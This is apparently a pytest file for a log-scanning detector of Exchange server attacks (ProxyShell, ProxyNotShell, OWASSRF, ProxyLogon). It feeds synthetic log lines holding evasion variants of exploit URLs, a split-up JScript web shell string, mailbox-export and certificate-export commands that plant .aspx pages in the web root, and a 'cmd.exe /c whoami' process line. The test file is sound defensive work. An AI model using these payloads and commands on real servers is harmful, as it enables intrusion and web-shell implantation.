"""Attacks in other clothes: letter case, encodings, one log alone, proxies, languages, IPv6."""

from collections.abc import Iterable
from pathlib import Path

import healthy
import pytest
from healthy import Line, at, cmdlet, control_panel, iis, process, proxy, shell
from scenario import rescanned, the_host

DAY = "2021-08-13T05:00:00"
OUT, BALANCER, SIX = "203.0.113.9", "10.0.0.9", "2001:db8::66"
JSON = "/autodiscover/autodiscover.json"
TAIL = "X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F"
USER = r"CONTOSO\novak"
MARKUP = (
    "<scr" + 'ipt language="JScript" run' + 'at="server">ev' + 'al(Request["a"],"unsafe")</script>'
)
PAGE = r"\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\a"
POOL = r'C:\Windows\System32\inetsrv\w3wp.exe -ap "MSExchangeOWAAppPool"'


def asked(url: str, client: str = OUT, user: str = "", answer: str = "200 0 0") -> list[Line]:
    """Ask six times, as a session of remote PowerShell or a web shell does."""
    known = {"client": client, "user": user, "answer": answer}
    return [iis(at(DAY, step * 3), f"POST {url}", **known) for step in range(6)]


def forged(path: str, status: int) -> Line:
    """Return a row of a forged routing anchor."""
    anchor = f"ServerInfo~a]@ex01.contoso.example:444{path}?a=~1942062522"
    known = {"AnchorMailbox": anchor, "HttpStatus": status, "BackEndStatus": status}
    return proxy(at(DAY), "Owa", "POST /owa/auth/x.js", client=BALANCER, **known)


def behind(account: str) -> list[Line]:
    """Return a virtual directory's reset as the back end logs it."""
    url = "POST /ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory"
    return [iis(at(DAY), url, client="10.0.0.5", port=444, user=account)]


CASES: dict[str, tuple[str, Iterable[Line]]] = {
    "ProxyShell, capitals": (
        "reached",
        asked(f"/AutoDiscover/AutoDiscover.JSON?@x.test/PowerShell/?{TAIL}@x.test"),
    ),
    "ProxyShell, encoded @": ("reached", asked(f"{JSON}?%40x.test/powershell/?{TAIL}%40x.test")),
    "ProxyShell, encoded dot": (
        "reached",
        asked(f"/autodiscover/autodiscover%2ejson?@x.test/powershell/?{TAIL}@x.test"),
    ),
    "ProxyShell, encoded word": ("reached", asked(f"{JSON}?@x.test/%70owershell/?{TAIL}@x.test")),
    "ProxyShell, balancer": ("reached", asked(f"{JSON}?@x.test/powershell/?{TAIL}", BALANCER)),
    "ProxyShell, IPv6": ("reached", asked(f"{JSON}?@x.test/powershell/?{TAIL}@x.test", SIX)),
    "ProxyNotShell, balancer": (
        "reached",
        asked(f"{JSON}?@x.test/powershell/?Email=autodiscover/autodiscover.json", BALANCER, USER),
    ),
    "OWASSRF, capitals": ("reached", asked("/OWA/a@contoso.example/PowerShell", OUT, USER)),
    "OWASSRF, encoded twice": ("reached", asked("/owa/a%2540x.test/%70owershell", OUT, USER)),
    "OWASSRF, back end alone": (
        "reached",
        [iis(at(DAY), "POST /powershell", user=USER, client="10.0.0.5", port=444)],
    ),
    "OWASSRF, remote PowerShell alone": (
        "reached",
        [shell(at(DAY, step), USER, healthy.CHROME) for step in range(6)],
    ),
    "ProxyLogon, proxy alone": ("reached", [forged("/ECP/ProxyLogon.ECP", 241)]),
    "ProxyLogon, German back end": ("planted", behind(r"NT-AUTORITÄT\SYSTEM")),
    "ProxyLogon, French back end": ("planted", behind("AUTORITE+NT\\Système")),
    "ProxyLogon, control panel alone": (
        "planted",
        [
            control_panel(
                at(DAY), f"SET-OWAVIRTUALDIRECTORY.INTERNALURL='http://f/{MARKUP}'", "/ecp/DDI"
            )
        ],
    ),
    "export, event alone": (
        "planted",
        cmdlet(at(DAY), f'New-MailboxExportRequest -Mailbox "x" -FilePath "{PAGE}.ASPX"')[:1],
    ),
    "export, remote PowerShell alone": (
        "planted",
        cmdlet(at(DAY), f'New-MailboxExportRequest -Mailbox "x" -FilePath "{PAGE}.aspx"')[1:],
    ),
    "certificate into a page": (
        "planted",
        cmdlet(at(DAY), f'Export-ExchangeCertificate -Thumbprint "0A" -FileName "{PAGE}.aspx"'),
    ),
    "shell, capitals": ("executed", asked("/ASPNET_CLIENT/Discover.ASPX", SIX)),
    "shell, encoded": ("executed", asked("/aspnet_client/disc%6fver.aspx")),
    "shell, more behind it": ("executed", asked("/aspnet_client/a.aspx/style.css")),
    "shell, among services": ("executed", asked("/ews/web.aspx", BALANCER)),
    "shell, autodiscover": ("executed", asked("/autodiscover/help.ashx")),
    "shell, its program": ("executed", process(at(DAY), POOL, "cmd.exe /c whoami")),
}


@pytest.mark.parametrize("name", CASES)
def test_an_attack_in_other_clothes_is_seen(tmp_path: Path, name: str) -> None:
    stage, lines = CASES[name]
    healthy.write(tmp_path / "EVIDENCE", lines)
    host = the_host(rescanned(tmp_path)[1])
    assert stage in {finding["stage"] for finding in host["findings"]}


@pytest.mark.parametrize("url", ["/shell.aspx", "/auth/owa.aspx", "/owa/prem/a.aspx"])
def test_a_page_that_may_be_of_others_counts_with_proof_of_a_way_in(
    tmp_path: Path, url: str
) -> None:
    healthy.write(tmp_path / "EVIDENCE", asked(url))
    assert the_host(rescanned(tmp_path)[1])["verdict"]["stage"] is None
    way_in = asked(f"{JSON}?@x.test/powershell/?{TAIL}@x.test")
    healthy.write(tmp_path / "EVIDENCE", [*way_in, *asked(url)])
    host = the_host(rescanned(tmp_path, "--force")[1])
    assert [chain["stage"] for chain in host["chains"]] == ["executed"]


def test_a_mitigation_test_without_an_address_is_a_knock(tmp_path: Path) -> None:
    url = f"{JSON}?a..foo.var/owa/?&Email=autodiscover/autodiscover.json?a..foo.var"
    healthy.write(tmp_path / "EVIDENCE", asked(url))
    assert the_host(rescanned(tmp_path)[1])["verdict"]["stage"] == "probed"
